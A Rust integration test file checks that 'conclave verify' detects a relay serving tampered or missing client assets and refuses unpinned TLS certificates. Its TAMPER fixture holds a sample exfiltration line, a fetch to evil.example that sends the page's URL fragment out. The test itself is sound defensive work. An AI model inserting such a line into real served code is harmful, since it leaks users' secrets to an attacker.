//! `conclave verify` against a real relay and against a relay that serves a
//! tampered client (issue 10, "the served code"): it must say which file
//! differs and fail, and it must refuse certificates it was not told to
//! trust.

mod common;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;

use common::{conclave, fingerprint, Relay};
use http_body_util::Full;
use hyper::body::Bytes;
use hyper::{Request, Response, StatusCode};
use hyper_util::rt::TokioIo;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio_rustls::rustls::ServerConfig;

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Every file `conclave verify` checks: the page at `/` and at a room path,
/// and every asset this build serves.
fn checked_files() -> usize {
    conclave_web::ASSET_NAMES.len() + 2
}

#[tokio::test(flavor = "multi_thread")]
async fn a_real_relay_pinned_by_its_printed_fingerprint_matches() {
    let relay = Relay::start(&[]);
    let out = conclave(&["verify", &relay.url, "--fingerprint", &relay.fingerprint]).await;
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}{}", text(&out.stderr));
    let matched = stdout
        .lines()
        .filter(|l| l.trim_start().starts_with("match "))
        .count();
    assert_eq!(matched, checked_files(), "{stdout}");
    for name in conclave_web::ASSET_NAMES {
        assert!(
            stdout.contains(&format!("/assets/{name} ")),
            "{name}: {stdout}"
        );
    }
    assert!(stdout.contains("VERDICT: MATCH"), "{stdout}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tampered_asset_and_a_missing_one_are_named_and_fail() {
    let tampered = conclave_web::ASSET_NAMES[0];
    let missing = *conclave_web::ASSET_NAMES.last().unwrap();
    let (addr, fp) = tampered_relay(tampered, missing).await;
    let url = format!("https://{addr}");
    let out = conclave(&["verify", &url, "--fingerprint", &fp]).await;
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}{}", text(&out.stderr));

    let line = |path: &str| {
        stdout
            .lines()
            .find(|l| l.contains(&format!(" {path} ")))
            .unwrap_or_else(|| panic!("no line for {path}: {stdout}"))
            .to_owned()
    };
    let original = conclave_web::asset(tampered).unwrap().body.len();
    let bad = line(&format!("/assets/{tampered}"));
    assert!(bad.trim_start().starts_with("MISMATCH"), "{bad}");
    assert!(
        bad.contains(&format!("relay: {} bytes", original + TAMPER.len()))
            && bad.contains(&format!("this build: {original} bytes")),
        "{bad}"
    );
    let gone = line(&format!("/assets/{missing}"));
    assert!(
        gone.trim_start().starts_with("missing") && gone.contains("404"),
        "{gone}"
    );
    assert!(line("/").trim_start().starts_with("match"), "{stdout}");
    let verdict = stdout.lines().find(|l| l.starts_with("VERDICT")).unwrap();
    assert!(
        verdict.starts_with(&format!("VERDICT: DIFFERENT. 2 of {}", checked_files()))
            && verdict.contains(tampered)
            && verdict.contains(missing),
        "{verdict}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn another_certificate_than_the_pinned_one_is_refused_with_both_fingerprints() {
    let relay = Relay::start(&[]);
    let wrong = ["AB"; 32].join(":");
    let out = conclave(&["verify", &relay.url, "--fingerprint", &wrong]).await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&relay.fingerprint) && stderr.contains(&wrong),
        "{stderr}"
    );
    assert!(!text(&out.stdout).contains("VERDICT"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_self_signed_relay_is_refused_without_a_pin_and_its_fingerprint_shown() {
    let relay = Relay::start(&[]);
    let out = conclave(&["verify", &relay.url]).await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!("--fingerprint {}", relay.fingerprint)),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn insecure_mode_is_labelled_as_proving_nothing() {
    let relay = Relay::start(&[]);
    let out = conclave(&["verify", &relay.url, "--insecure"]).await;
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stdout}{stderr}");
    assert!(stderr.contains("WARNING: --insecure"), "{stderr}");
    assert!(stdout.contains("--insecure was on"), "{stdout}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unreachable_relay_is_reported_as_such() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let out = conclave(&["verify", &format!("https://127.0.0.1:{port}"), "--insecure"]).await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("cannot reach https://127.0.0.1:"),
        "{stderr}"
    );
}

/// What the tampered relay appends to one file.
const TAMPER: &[u8] = b"\n;fetch('https://evil.example/?'+location.hash)\n";

/// An HTTPS server that serves this build's client, except that it appends
/// [`TAMPER`] to the asset `tampered` and answers 404 for `missing`: a relay
/// whose operator changed the code. Returns its address and certificate
/// fingerprint.
async fn tampered_relay(tampered: &'static str, missing: &'static str) -> (SocketAddr, String) {
    let cert = rcgen::generate_simple_self_signed(vec!["127.0.0.1".into()]).unwrap();
    let fp = fingerprint(cert.cert.der());
    let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(cert.signing_key.serialize_der()));
    let config = ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![CertificateDer::from(cert.cert.der().to_vec())], key)
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                return;
            };
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let service = hyper::service::service_fn(move |req: Request<_>| async move {
                    Ok::<_, Infallible>(answer(req.uri().path(), tampered, missing))
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    (addr, fp)
}

fn answer(path: &str, tampered: &str, missing: &str) -> Response<Full<Bytes>> {
    let asset = match path.strip_prefix("/assets/") {
        Some(name) if name == missing => None,
        Some(name) => conclave_web::asset(name).map(|a| (name == tampered, a)),
        None => Some((false, conclave_web::INDEX)),
    };
    match asset {
        Some((tamper, a)) => {
            let mut body = a.body.to_vec();
            if tamper {
                body.extend_from_slice(TAMPER);
            }
            Response::builder()
                .header(hyper::header::CONTENT_TYPE, a.content_type)
                .body(Full::new(Bytes::from(body)))
                .unwrap()
        }
        None => Response::builder()
            .status(StatusCode::NOT_FOUND)
            .body(Full::new(Bytes::from_static(b"no such asset\n")))
            .unwrap(),
    }
}
